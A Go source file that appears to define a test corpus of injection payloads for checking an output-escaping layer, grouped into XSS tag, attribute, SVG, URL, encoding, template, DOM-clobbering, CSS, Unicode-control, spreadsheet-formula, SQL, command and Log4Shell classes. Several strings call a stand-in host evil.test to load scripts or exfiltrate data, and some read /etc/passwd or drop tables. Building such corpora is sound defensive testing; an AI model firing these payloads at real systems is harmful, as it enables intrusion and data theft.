package corpus

import "strings"

// classes are all strings, by what they count on. § is a call of the marker, ¤ the
// string's number.
var classes = []class{
	{"tag", []string{
		`<script>§</script>`, `<SCRIPT>§</SCRIPT>`, `<script >§</script >`, `<script
>§</script>`, `<script/x>§</script>`, `</title><script>§</script>`, `</textarea><script>§</script>`,
		`</select><script>§</script>`, `</style><script>§</script>`, `</script><script>§</script>`, `--><script>§</script>`, `]]><script>§</script>`,
		`<scr<script>ipt>§</scr</script>ipt>`, `<script>§//`, `<script src=//evil.test/¤.js></script>`, `<script src="data:text/javascript,§"></script>`,
		`<script type=module>§</script>`, `<iframe srcdoc="<script>parent.§</script>"></iframe>`, `<iframe src="javascript:parent.§">`, `<object data="javascript:§"></object>`,
		`<embed src="javascript:§">`, `<base href="//evil.test/¤/">`, `<meta http-equiv=refresh content="0;url=//evil.test/¤">`, `<link rel=stylesheet href=//evil.test/¤.css>`,
		`<noscript><p title="</noscript><img src=x onerror=§>">`, `<plaintext>¤`, `<xmp><script>§</script></xmp>`, `<!--¤`, `<![CDATA[<script>§</script>]]>`, `<?xml version="1.0"?><script>§</script>`,
		`<table><td><script>§</script>`, `<marquee onstart=§>¤</marquee>`, `<b>¤</b>`, `</td></tr></table><h1>¤</h1>`, `</main></body></html><script>§</script>`, `<frameset onload=§>`,
		`<template shadowrootmode=open><script>§</script></template>`, `<dialog open onclose=§>¤</dialog>`,
	}},
	{"attribute", []string{
		`" onfocus="§" autofocus="`, `' onfocus='§' autofocus='`, "` onfocus=`§` autofocus=`", `" autofocus onfocus=§ x="`, `x" onmouseover=§ y="`, `" style="animation-name:x" onanimationstart="§`,
		`"><script>§</script>`, `'><script>§</script>`, `"><img src=x onerror=§>`, `'/><svg onload=§>`, `" accesskey="x" onclick="§`, `" formaction="javascript:§`, `" href="javascript:§`,
		`" type=image src=x onerror="§`, `"/onload="§`, `"	onclick="§`, `" hx-on:load="§" x="`, `" hx-get="//evil.test/¤" hx-trigger="load`, `" data-hx-get="/console/sign-out" data-hx-trigger="load`, `" hx-vals='js:{a:§}' x="`,
		`\" onfocus=\"§\" autofocus=\"`, `&quot; onfocus=&quot;§&quot; autofocus=&quot;`,
	}},
	{"event", []string{
		`<img src=x onerror=§>`, `<img/src=x/onerror=§>`, `<img src=x onerror="§">`, `<IMG SRC=x OnErRoR=§>`, `<img src onerror=§>`, `<img src=x:x onerror&#61;§>`, `<body onload=§>`, `<body onpageshow=§>`,
		`<input autofocus onfocus=§>`, `<select autofocus onfocus=§>`, `<textarea autofocus onfocus=§>`, `<details open ontoggle=§>`, `<video><source onerror=§></video>`, `<audio src=x onerror=§>`, `<video poster=javascript:§ src=x onerror=§>`,
		`<div onpointerenter=§>¤</div>`, `<a onclick=§>¤</a>`, `<form onsubmit=§><button>¤</button></form>`, `<button onclick=§ autofocus onfocus=§>¤</button>`, `<keygen autofocus onfocus=§>`, `<style onload=§></style>`, `<link rel=stylesheet href=x onerror=§>`,
		`<img src=x onerror=eval(atob('¤'))>`, `<img src=x onerror=import('//evil.test/¤')>`, `<img src="x" onerror="fetch('//evil.test/¤')">`, `<img src=//evil.test/¤.gif>`, `<div id=x tabindex=1 onfocus=§></div>`, `<p oncontentvisibilityautostatechange=§ style=content-visibility:auto>`,
	}},
	{"svg and math", []string{
		`<svg onload=§>`, `<svg/onload=§>`, `<svg><script>§</script></svg>`, `<svg><script href=data:text/javascript,§ />`, `<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><set onbegin=§ attributename=x>`,
		`<svg><a xlink:href="javascript:§"><text y=20>¤</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x">`, `<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=§></style>`,
		`<math><mi xlink:href="javascript:§">¤</mi></math>`, `<math href="javascript:§">¤</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=§>`, `<svg></p><style><a id="</style><img src=x onerror=§>">`, `<svg><image href=x onerror=§>`, `<svg><desc><![CDATA[</desc><script>§</script>]]></svg>`,
	}},
	{"address", []string{
		`javascript:§`, `JaVaScRiPt:§`, ` javascript:§`, `java	script:§`, `javascript&colon;§`, `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+§//'>`, `javascript://%0a§`, `data:text/html,<script>§</script>`,
		`data:text/html;base64,PHNjcmlwdD7CpDwvc2NyaXB0Pg==¤`, `vbscript:msgbox(¤)`, `//evil.test/¤`, `https://evil.test/¤`, `\\evil.test\¤`, `/\evil.test/¤`, `http:evil.test/¤`, `../../../etc/passwd?¤`, `..%2f..%2fconsole%2fsign-out?¤`, `/console/sign-out?¤`,
		`?next=//evil.test/¤`, `#<img src=x onerror=§>`, `file:///etc/passwd#¤`, `blob:null/¤`, `mailto:a@evil.test?bcc=¤`, `tel:+8612345¤`,
	}},
	{"encoding", []string{
		`&lt;script&gt;§&lt;/script&gt;`, `&#60;script&#62;§&#60;/script&#62;`, `&#x3c;script&#x3e;§&#x3c;/script&#x3e;`, `%3Cscript%3E§%3C/script%3E`, `%253Cscript%253E§%253C/script%253E`, `\u003cscript\u003e§\u003c/script\u003e`, `\x3cscript\x3e§\x3c/script\x3e`,
		`＜script＞§＜/script＞`, `‹script›§‹/script›`, `<ſcript>§</ſcript>`, `<scrıpt>§</scrıpt>`, `+ADw-script+AD4-§+ADw-/script+AD4-`, `+/v8 +ADw-img src=x onerror=§+AD4-`, `ºscript¾§º/script¾`, `~script¤`, `$B<script>§`, `&amp;lt;script&amp;gt;¤`,
		`&lt¤`, `&#0¤;`, `&#x110000;¤`, `&nbsp;¤&nbsp;`, `&#x202e;¤`, `<img src=x onerror=&#104;&#101;&#100;&#117;&#105;(¤)>`, `\074script\076§`, `<a href=&#106avascript:§>¤</a>`, `&NewLine;<script&Tab;>§</script>`,
	}},
	{"template", []string{
		`{{.}}¤`, `{{template "layout" .}}¤`, `{{printf "%s" .Data}}¤`, `${§}`, `#{§}`, `<%= § %>`, `{% § %}`, `{{constructor.constructor('§')()}}`, `[[§]]`, `*{¤}`, `%s%d%n¤`, `%!d¤`, `{0}{1}¤`, `$(§)`, "`§`", `@{¤}`, `{{"{{"}}¤`,
	}},
	{"script string", []string{
		`';§;//`, `";§;//`, `\';§;//`, `\";§;//`, "\u2028§\u2028¤", "\u2029§", `</script¤`, `';alert(§);'`, `"-§-"`, `'-§-'`, `*/§/*`, `//¤
§`, `1;§`, `],"x":§,[`, `{"__proto__":{"¤":1}}`, `__proto__¤`, `constructor¤`, `toString¤`,
	}},
	{"clobbering", []string{
		`<form id=document><input name=cookie value=¤></form>`, `<a id=location href="//evil.test/¤">`, `<img name=getElementById alt=¤>`, `<form id=htmx><input name=config></form>¤`, `<input id=body name=querySelector value=¤>`, `<a id=uPlot><a id=uPlot name=fmtDate href=x:¤>`,
		`<iframe name=self srcdoc=¤>`, `<form name=forms><button name=submit>¤</button></form>`, `<object id=attributes data=¤>`, `<input form=sign-out formaction=//evil.test/¤ type=submit>`,
	}},
	{"style", []string{
		`<style>*{background:url(//evil.test/¤)}</style>`, `<p style="position:fixed;inset:0;background:red">¤</p>`, `<style>@import '//evil.test/¤.css'</style>`, `";background:url(//evil.test/¤);x:"`, `expression(§)`, `</style><style>body{display:none}/*¤*/`, `url(javascript:§)`, `-moz-binding:url(//evil.test/¤)`,
		`<style>input[value^="1"]{background:url(//evil.test/¤)}</style>`, `<div style=width:99999px>¤</div>`, `\3c script\3e §`,
	}},
	{"control", []string{
		"<scr\x00ipt>§</script>", "\x00<script>§</script>", "<img src=x onerror\x00=§>", "<img\x0bsrc=x\x0bonerror=§>", "<img\x0csrc=x\x0conerror=§>", "\x1b[31m¤\x1b[0m", "\x08\x08\x08¤", "¤\r\nSet-Cookie: hedui=planted", "¤\r\n\r\n<script>§</script>", "¤\nlevel=ERROR msg=planted", "\x7f¤",
		"\ufeff<script>§</script>", "\ufffe¤", "\u00ad<script>§</script>", "\u180e¤", "\u0085¤", "\u2000\u2003¤",
	}},
	{"direction", []string{
		"\u202e¤ gpj.exe", "\u202d¤\u202c", "\u2066¤\u2069", "\u2067<script>§</script>\u2069", "\u200f¤\u200e", "王\u202e伟¤", "\u061c¤", "\u202a\u202a\u202a¤",
	}},
	{"invisible", []string{
		"王\u200b伟¤", "\u200d\u200d¤", "\u2060¤", "张\ufe0f三¤", "\U000e0001\U000e0020¤", "\u3164¤", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301¤", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L¤",
	}},
	{"formula", []string{
		`=1+¤`, `+1+¤`, `-1-¤`, `@SUM(¤)`, `=HYPERLINK("http://evil.test/¤","x")`, `=cmd|' /C calc'!A¤`, "\t=1+¤", "\r=1+¤", `＝1+¤`, `＋1+¤`, `－1-¤`, `＠SUM(¤)`, `"=1+¤`, `;=1+¤`, `=WEBSERVICE("http://evil.test/¤")`, `%0A=1+¤`, `'=1+¤`,
	}},
	{"query", []string{
		`' OR '1'='1¤`, `'; DROP TABLE users;--¤`, `" OR ""="¤`, `%' AND 1=¤--`, `*)(uid=*¤`, `$where: '§'`, `{"$gt":"¤"}`, `.*.*.*.*.*¤`, `(((((((((((¤`, `a%00b¤`, `_%_%¤`, `||§||`, `; cat /etc/passwd #¤`, "`id`¤", `$(id)¤`, `${jndi:ldap://evil.test/¤}`,
	}},
	{"long", []string{
		strings.Repeat("很长", 120) + `¤`, strings.Repeat("W", 240) + `¤`, strings.Repeat("<b>", 60) + `¤`, strings.Repeat("𠮷", 60) + `¤`, strings.Repeat("i", 60) + `¤`, strings.Repeat("阿依古丽·", 12) + `¤`, strings.Repeat("&amp;", 40) + `¤`, strings.Repeat("<script>", 20) + `§`,
	}},
}
